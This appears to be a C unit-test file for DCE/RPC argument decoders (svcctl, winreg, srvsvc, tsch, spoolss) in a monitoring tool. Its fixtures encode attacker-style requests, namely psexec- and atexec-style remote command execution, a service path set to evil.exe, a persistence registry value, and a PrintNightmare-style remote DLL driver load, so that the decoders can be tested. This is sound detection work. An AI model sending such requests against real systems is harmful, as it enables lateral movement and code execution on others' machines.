/* Unit tests for the DCE/RPC argument decoders (dcerpc_<family>.c; samr and lsarpc, the account
 * lookups, are in test_dcerpc_args_sam.c): one fixture per operation,
 * written member by member from the spec's IDL, decoded whole and at every truncation length
 * (nothing crashes, nothing is invented: a cut stub's fields are the whole stub's, lists
 * prefixes), plus lying counts and offsets. */
#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "dcerpc_args.h"
#include "ndr_build.h"

/* ---- svcctl ([MS-SCMR]) ---- */

/* RCreateServiceW (12) as impacket's services.py / psexec sends it */
static void create_service(struct nb *w, const char *binpath)
{
    nb_handle(w);                      /* hSCManager */
    nb_wstr(w, "BTOBTO");              /* [in, string] lpServiceName */
    nb_uwstr(w, "BTOBTO display");     /* [in, string, unique] lpDisplayName */
    nb_u32(w, 0x000F01FF);             /* dwDesiredAccess: SERVICE_ALL_ACCESS */
    nb_u32(w, 0x10);                   /* dwServiceType: SERVICE_WIN32_OWN_PROCESS */
    nb_u32(w, 3);                      /* dwStartType: SERVICE_DEMAND_START */
    nb_u32(w, 0);                      /* dwErrorControl */
    nb_wstr(w, binpath);               /* [in, string] lpBinaryPathName */
    nb_uwstr(w, NULL);                 /* lpLoadOrderGroup */
    nb_u32(w, 0);                      /* lpdwTagId: null */
    nb_u32(w, 0);                      /* lpDependencies: null */
    nb_u32(w, 0);                      /* dwDependSize */
    nb_uwstr(w, "LocalSystem");        /* lpServiceStartName */
    nb_u32(w, 0);                      /* lpPassword: null */
    nb_u32(w, 0);                      /* dwPwSize */
}

START_TEST(svcctl_create_service)
{
    struct nb w = {0};
    create_service(&w, "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\out 2>&1");
    struct event e;
    nb_run(dcerpc_svcctl_req, 12, w.b, w.n, &e);
    ck_assert_str_eq(nb_str(&e, "service_name"), "BTOBTO");
    ck_assert_str_eq(nb_str(&e, "display_name"), "BTOBTO display");
    ck_assert_str_eq(nb_str(&e, "binary_path"), "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\out 2>&1");
    ck_assert_str_eq(nb_str(&e, "start_type"), "demand");
    ck_assert_int_eq(nb_uint(&e, "service_type"), 0x10);
    ck_assert_int_eq(nb_uint(&e, "access_mask"), 0xF01FF);
    ck_assert_str_eq(nb_str(&e, "user_name"), "LocalSystem");
    nb_cuts(&e, dcerpc_svcctl_req, 12, &w);
}
END_TEST

START_TEST(svcctl_open_scm_open_service_start)
{
    struct nb w = {0};
    nb_uwstr(&w, "\\\\SRV");           /* lpMachineName */
    nb_uwstr(&w, "ServicesActive");    /* lpDatabaseName */
    nb_u32(&w, 0xF003F);               /* dwDesiredAccess */
    struct event e;
    nb_run(dcerpc_svcctl_req, 15, w.b, w.n, &e);
    ck_assert_str_eq(nb_str(&e, "machine"), "\\\\SRV");
    ck_assert_int_eq(nb_uint(&e, "access_mask"), 0xF003F);
    nb_cuts(&e, dcerpc_svcctl_req, 15, &w);

    struct nb o = {0};
    nb_handle(&o);
    nb_wstr(&o, "Spooler");            /* [in, string] lpServiceName */
    nb_u32(&o, 0x10);
    nb_run(dcerpc_svcctl_req, 16, o.b, o.n, &e);
    ck_assert_str_eq(nb_str(&e, "service_name"), "Spooler");
    ck_assert_int_eq(nb_uint(&e, "access_mask"), 0x10);
    nb_cuts(&e, dcerpc_svcctl_req, 16, &o);

    /* RStartServiceW (19): argc, [unique, size_is(argc)] array of [string, unique] pointers */
    struct nb s = {0};
    nb_handle(&s);
    nb_u32(&s, 2);                     /* argc */
    nb_u32(&s, 0x20000);               /* argv referent */
    nb_u32(&s, 2);                     /* max_count */
    nb_u32(&s, 0x20004);               /* argv[0] */
    nb_u32(&s, 0x20008);               /* argv[1] */
    nb_wstr(&s, "-k");
    nb_wstr(&s, "netsvcs");
    nb_run(dcerpc_svcctl_req, 19, s.b, s.n, &e);
    ck_assert_uint_eq(nb_strv_n(&e, "service_args"), 2);
    ck_assert_str_eq(nb_strv(&e, "service_args", 1), "netsvcs");
    nb_cuts(&e, dcerpc_svcctl_req, 19, &s);

    /* RDeleteService (2): a handle only, nothing to decode */
    struct nb d = {0};
    nb_handle(&d);
    nb_run(dcerpc_svcctl_req, 2, d.b, d.n, &e);
    ck_assert_uint_eq(e.top.n, 0);
    ev_free(&e);
}
END_TEST

START_TEST(svcctl_change_config)
{
    struct nb w = {0};
    nb_handle(&w);
    nb_u32(&w, 0xffffffff);            /* dwServiceType: SERVICE_NO_CHANGE */
    nb_u32(&w, 2);                     /* dwStartType: auto */
    nb_u32(&w, 0xffffffff);            /* dwErrorControl */
    nb_uwstr(&w, "C:\\Windows\\evil.exe");  /* lpBinaryPathName */
    nb_uwstr(&w, NULL);                /* lpLoadOrderGroup */
    nb_u32(&w, 0);                     /* lpdwTagId */
    nb_u32(&w, 0);                     /* lpDependencies */
    nb_u32(&w, 0);                     /* dwDependSize */
    nb_uwstr(&w, NULL);                /* lpServiceStartName */
    nb_u32(&w, 0);                     /* lpPassword */
    nb_u32(&w, 0);                     /* dwPwSize */
    nb_uwstr(&w, "Updater");           /* lpDisplayName */
    struct event e;
    nb_run(dcerpc_svcctl_req, 11, w.b, w.n, &e);
    ck_assert_str_eq(nb_str(&e, "binary_path"), "C:\\Windows\\evil.exe");
    ck_assert_str_eq(nb_str(&e, "start_type"), "auto");
    ck_assert_str_eq(nb_str(&e, "display_name"), "Updater");
    ck_assert_int_eq(nb_uint(&e, "service_type"), -1);  /* no change: not reported */
    ck_assert_ptr_null(nb_str(&e, "user_name"));
    nb_cuts(&e, dcerpc_svcctl_req, 11, &w);
}
END_TEST

/* a string whose actual_count lies (past max_count, or past the bytes there) decodes to nothing */
START_TEST(svcctl_lying_string_counts)
{
    struct nb w = {0};
    nb_handle(&w);
    nb_u32(&w, 4);                     /* max_count */
    nb_u32(&w, 0);                     /* offset */
    nb_u32(&w, 5);                     /* actual_count > max_count */
    nb_utf16(&w, "abcd", 1);
    struct event e;
    nb_run(dcerpc_svcctl_req, 16, w.b, w.n, &e);
    ck_assert_uint_eq(e.top.n, 0);
    ev_free(&e);
    struct nb x = {0};
    nb_handle(&x);
    nb_u32(&x, 0xffffffff);            /* max_count */
    nb_u32(&x, 0);
    nb_u32(&x, 0x7fffffff);            /* actual_count far past the stub */
    nb_utf16(&x, "ab", 1);
    nb_run(dcerpc_svcctl_req, 16, x.b, x.n, &e);
    ck_assert_uint_eq(e.top.n, 0);
    ev_free(&e);
    struct nb y = {0};
    nb_handle(&y);
    nb_u32(&y, 3);                     /* max_count */
    nb_u32(&y, 4);                     /* offset past max_count */
    nb_u32(&y, 0);
    nb_run(dcerpc_svcctl_req, 16, y.b, y.n, &e);
    ck_assert_uint_eq(e.top.n, 0);
    ev_free(&e);
}
END_TEST

/* ---- winreg ([MS-RRP]) ---- */

START_TEST(winreg_open_and_values)
{
    struct event e;
    struct nb h = {0};
    nb_u32(&h, 0x20000);               /* ServerName: unique pointer to one wchar_t */
    nb_u16(&h, 0x5c);
    nb_u32(&h, 0x02000000);            /* samDesired: MAXIMUM_ALLOWED */
    nb_run(dcerpc_winreg_req, 2, h.b, h.n, &e);
    ck_assert_str_eq(nb_str(&e, "key_path"), "HKLM");
    ck_assert_int_eq(nb_uint(&e, "access_mask"), 0x02000000);
    nb_cuts(&e, dcerpc_winreg_req, 2, &h);

    struct nb o = {0};
    nb_handle(&o);
    nb_ustr(&o, "SYSTEM\\CurrentControlSet\\Control\\Lsa", 1);  /* lpSubKey: RRP counts the NUL */
    nb_u32(&o, 0);                     /* dwOptions */
    nb_u32(&o, 0x20019);               /* samDesired: KEY_READ */
    nb_run(dcerpc_winreg_req, 15, o.b, o.n, &e);
    ck_assert_str_eq(nb_str(&e, "key_path"), "SYSTEM\\CurrentControlSet\\Control\\Lsa");
    ck_assert_int_eq(nb_uint(&e, "access_mask"), 0x20019);
    nb_cuts(&e, dcerpc_winreg_req, 15, &o);

    struct nb s = {0};
    nb_handle(&s);
    nb_ustr(&s, "Updater", 1);         /* lpValueName */
    nb_u32(&s, 2);                     /* dwType: REG_EXPAND_SZ */
    nb_u32(&s, 26);                    /* lpData: conformant array max_count */
    nb_utf16(&s, "%TEMP%\\x.exe", 0);  /* 12 units... */
    nb_bytes(&s, "\0\0", 2);           /* ... and the NUL: 26 bytes */
    nb_u32(&s, 26);                    /* cbData */
    nb_run(dcerpc_winreg_req, 22, s.b, s.n, &e);
    ck_assert_str_eq(nb_str(&e, "value_name"), "Updater");
    ck_assert_str_eq(nb_str(&e, "value_type"), "REG_EXPAND_SZ");
    ck_assert_str_eq(nb_str(&e, "value_data"), "%TEMP%\\x.exe");
    nb_cuts(&e, dcerpc_winreg_req, 22, &s);

    /* BaseRegQueryValue response: lpType, lpData, lpcbData, lpcbLen, status */
    struct nb q = {0};
    nb_u32(&q, 0x20000);
    nb_u32(&q, 4);                     /* REG_DWORD */
    nb_u32(&q, 0x20004);               /* lpData */
    nb_u32(&q, 4);
    nb_u32(&q, 0);
    nb_u32(&q, 4);
    nb_bytes(&q, "\1\0\0\0", 4);
    nb_u32(&q, 0x20008);
    nb_u32(&q, 4);
    nb_u32(&q, 0x2000c);
    nb_u32(&q, 4);
    nb_u32(&q, 0);                     /* ERROR_SUCCESS */
    nb_run(dcerpc_winreg_rsp, 17, q.b, q.n, &e);
    ck_assert_str_eq(nb_str(&e, "value_type"), "REG_DWORD");
    nb_cuts(&e, dcerpc_winreg_rsp, 17, &q);
}
END_TEST

/* ---- srvsvc ([MS-SRVS]) ---- */

/* NetrShareEnum (15) response at level 1: SHARE_ENUM_STRUCT, TotalEntries, ResumeHandle, status */
static void share_enum_rsp(struct nb *w, uint32_t entries)
{
    static const char *const names[] = {"ADMIN$", "C$", "IPC$"};
    static const char *const remarks[] = {"Remote Admin", "Default share", "Remote IPC"};
    nb_u32(w, 1);                      /* Level */
    nb_u32(w, 1);                      /* union discriminant */
    nb_u32(w, 0x20000);                /* pointer to SHARE_INFO_1_CONTAINER */
    nb_u32(w, entries);                /* EntriesRead */
    nb_u32(w, 0x20004);                /* Buffer */
    nb_u32(w, 3);                      /* max_count */
    for (int i = 0; i < 3; i++) {
        nb_u32(w, 0x20008 + 8 * (uint32_t)i);  /* shi1_netname */
        nb_u32(w, i == 2 ? 0x80000003u : 0x80000000u);  /* shi1_type */
        nb_u32(w, 0x2000c + 8 * (uint32_t)i);  /* shi1_remark */
    }
    for (int i = 0; i < 3; i++) {
        nb_wstr(w, names[i]);
        nb_wstr(w, remarks[i]);
    }
    nb_u32(w, 3);                      /* TotalEntries */
    nb_u32(w, 0);                      /* ResumeHandle: null */
    nb_u32(w, 0);                      /* ERROR_SUCCESS */
}

START_TEST(srvsvc_share_enum)
{
    struct nb w = {0};
    share_enum_rsp(&w, 3);
    struct event e;
    nb_run(dcerpc_srvsvc_rsp, 15, w.b, w.n, &e);
    ck_assert_uint_eq(nb_strv_n(&e, "shares"), 3);
    ck_assert_str_eq(nb_strv(&e, "shares", 0), "ADMIN$");
    ck_assert_str_eq(nb_strv(&e, "shares", 2), "IPC$");
    ck_assert_int_eq(nb_uint(&e, "count"), 3);
    ck_assert_int_eq(nb_uint(&e, "level"), 1);
    nb_cuts(&e, dcerpc_srvsvc_rsp, 15, &w);

    /* the request: ServerName, then the same structure with an empty container */
    struct nb q = {0};
    nb_uwstr(&q, "\\\\127.0.0.1");
    nb_u32(&q, 1);
    nb_u32(&q, 1);
    nb_u32(&q, 0x20000);
    nb_u32(&q, 0);                     /* EntriesRead */
    nb_u32(&q, 0);                     /* Buffer: null */
    nb_u32(&q, 0xffffffff);            /* PreferedMaximumLength */
    nb_u32(&q, 0);                     /* ResumeHandle */
    nb_run(dcerpc_srvsvc_req, 15, q.b, q.n, &e);
    ck_assert_str_eq(nb_str(&e, "machine"), "\\\\127.0.0.1");
    ck_assert_int_eq(nb_uint(&e, "level"), 1);
    ck_assert_uint_eq(nb_strv_n(&e, "shares"), 0);
    nb_cuts(&e, dcerpc_srvsvc_req, 15, &q);
}
END_TEST

START_TEST(srvsvc_lying_entries)
{
    /* EntriesRead above the array's max_count, and a max_count no stub can hold */
    struct nb w = {0};
    share_enum_rsp(&w, 4);
    struct event e;
    nb_run(dcerpc_srvsvc_rsp, 15, w.b, w.n, &e);
    ck_assert_uint_eq(nb_strv_n(&e, "shares"), 0);
    ck_assert_int_eq(nb_uint(&e, "count"), -1);
    ev_free(&e);
    struct nb x = {0};
    share_enum_rsp(&x, 3);
    x.b[20] = 0xff, x.b[21] = 0xff, x.b[22] = 0xff, x.b[23] = 0x7f;  /* max_count 0x7fffffff */
    nb_run(dcerpc_srvsvc_rsp, 15, x.b, x.n, &e);
    ck_assert_uint_eq(nb_strv_n(&e, "shares"), 0);
    ev_free(&e);
}
END_TEST

/* ---- atsvc, tsch ([MS-TSCH]) ---- */

START_TEST(tsch_register_task_and_jobadd)
{
    struct event e;
    struct nb w = {0};
    nb_uwstr(&w, "\\AtExecTask");      /* [in, string, unique] path */
    static const char xml[] = "<?xml version=\"1.0\"?><Task><Actions Context=\"LocalSystem\"><Exec>"
                              "<Command>cmd.exe</Command><Arguments>/C whoami &gt; %windir%\\Temp\\x.tmp "
                              "2&gt;&amp;1</Arguments></Exec></Actions></Task>";
    nb_wstr(&w, xml);                  /* [in, string] xml */
    nb_u32(&w, 6);                     /* flags: TASK_CREATE_OR_UPDATE */
    nb_u32(&w, 0);                     /* sddl: null */
    nb_u32(&w, 3);                     /* logonType */
    nb_u32(&w, 0);                     /* cCreds */
    nb_u32(&w, 0);                     /* pCreds: null */
    nb_run(dcerpc_tsch_req, 1, w.b, w.n, &e);
    ck_assert_str_eq(nb_str(&e, "task_path"), "\\AtExecTask");
    ck_assert_str_eq(nb_str(&e, "task_command"), "cmd.exe");
    ck_assert_str_eq(nb_str(&e, "task_arguments"), "/C whoami &gt; %windir%\\Temp\\x.tmp 2&gt;&amp;1");
    ck_assert_int_eq(nb_uint(&e, "xml_length"), (int64_t)strlen(xml));
    nb_cuts(&e, dcerpc_tsch_req, 1, &w);

    struct nb r = {0};
    nb_wstr(&r, "\\AtExecTask");       /* SchRpcRun: [in, string] path */
    nb_u32(&r, 0);
    nb_run(dcerpc_tsch_req, 12, r.b, r.n, &e);
    ck_assert_str_eq(nb_str(&e, "task_path"), "\\AtExecTask");
    ev_free(&e);

    /* NetrJobAdd: ServerName, AT_INFO {JobTime, DaysOfMonth, DaysOfWeek, Flags, Command} */
    struct nb j = {0};
    nb_uwstr(&j, "\\\\SRV");
    nb_u32(&j, 3600000);
    nb_u32(&j, 0);
    nb_u8(&j, 0x7f);
    nb_u8(&j, 0x10);
    nb_uwstr(&j, "cmd /c calc.exe");
    nb_run(dcerpc_atsvc_req, 0, j.b, j.n, &e);
    ck_assert_str_eq(nb_str(&e, "task_command"), "cmd /c calc.exe");
    ck_assert_str_eq(nb_str(&e, "machine"), "\\\\SRV");
    nb_cuts(&e, dcerpc_atsvc_req, 0, &j);
}
END_TEST

/* ---- spoolss ([MS-RPRN]) ---- */

START_TEST(spoolss_open_and_add_driver)
{
    struct event e;
    struct nb o = {0};
    nb_uwstr(&o, "\\\\SRV\\HP LaserJet");  /* pPrinterName */
    nb_uwstr(&o, NULL);                /* pDatatype */
    nb_u32(&o, 0);                     /* DEVMODE_CONTAINER: cbBuf */
    nb_u32(&o, 0);                     /*   pDevMode */
    nb_u32(&o, 0x20000);               /* AccessRequired */
    nb_run(dcerpc_spoolss_req, 69, o.b, o.n, &e);
    ck_assert_str_eq(nb_str(&e, "printer"), "\\\\SRV\\HP LaserJet");
    ev_free(&e);

    /* RpcAddPrinterDriverEx (89): pName, DRIVER_CONTAINER level 2, dwFileCopyFlags */
    struct nb w = {0};
    nb_uwstr(&w, "\\\\SRV");
    nb_u32(&w, 2);                     /* Level */
    nb_u32(&w, 2);                     /* discriminant */
    nb_u32(&w, 0x20000);               /* Level2 pointer */
    nb_u32(&w, 3);                     /* cVersion */
    for (uint32_t i = 0; i < 5; i++)
        nb_u32(&w, 0x20004 + 4 * i);   /* pName, pEnvironment, pDriverPath, pDataFile, pConfigFile */
    nb_wstr(&w, "1234");
    nb_wstr(&w, "Windows x64");
    nb_wstr(&w, "C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL");
    nb_wstr(&w, "\\\\10.0.0.5\\share\\evil.dll");
    nb_wstr(&w, "C:\\Windows\\System32\\kernelbase.dll");
    nb_u32(&w, 0x8014);                /* dwFileCopyFlags */
    nb_run(dcerpc_spoolss_req, 89, w.b, w.n, &e);
    ck_assert_str_eq(nb_str(&e, "driver_name"), "1234");
    ck_assert_str_eq(nb_str(&e, "data_file"), "\\\\10.0.0.5\\share\\evil.dll");
    ck_assert_str_eq(nb_str(&e, "config_file"), "C:\\Windows\\System32\\kernelbase.dll");
    ck_assert_int_eq(nb_uint(&e, "level"), 2);
    nb_cuts(&e, dcerpc_spoolss_req, 89, &w);
}
END_TEST

/* an unknown operation writes nothing; every decoder survives random stubs */
START_TEST(unknown_ops_and_noise)
{
    size_t n;
    const struct dcerpc_iface *t = dcerpc_iface_table(&n);
    uint8_t noise[512];
    uint32_t x = 12345;
    for (int round = 0; round < 40; round++) {
        for (size_t i = 0; i < sizeof noise; i++) {
            x = x * 1103515245u + 12345u;
            noise[i] = (uint8_t)(x >> 16);
            if (round % 2 && i % 4)
                noise[i] = 0;  /* small counts, so decoding goes deeper */
        }
        for (size_t k = 0; k < n; k++)
            for (uint16_t op = 0; op < t[k].n_ops + 2; op++) {
                struct event e;
                if (t[k].req) {
                    nb_run(t[k].req, op, noise, sizeof noise, &e);
                    ev_free(&e);
                }
                if (t[k].rsp) {
                    nb_run(t[k].rsp, op, noise, sizeof noise, &e);
                    ev_free(&e);
                }
            }
    }
    struct nb w = {0};
    nb_handle(&w);
    struct event e;
    nb_run(dcerpc_samr_req, 99, w.b, w.n, &e);
    ck_assert_uint_eq(e.top.n, 0);
    ev_free(&e);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("dcerpc_args");
    TCase *tc = tcase_create("decoders");
    tcase_set_timeout(tc, 120);
    tcase_add_test(tc, svcctl_create_service);
    tcase_add_test(tc, svcctl_open_scm_open_service_start);
    tcase_add_test(tc, svcctl_change_config);
    tcase_add_test(tc, svcctl_lying_string_counts);
    tcase_add_test(tc, winreg_open_and_values);
    tcase_add_test(tc, srvsvc_share_enum);
    tcase_add_test(tc, srvsvc_lying_entries);
    tcase_add_test(tc, tsch_register_task_and_jobadd);
    tcase_add_test(tc, spoolss_open_and_add_driver);
    tcase_add_test(tc, unknown_ops_and_noise);
    suite_add_tcase(s, tc);
    SRunner *sr = srunner_create(s);
    srunner_run_all(sr, CK_NORMAL);
    int failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
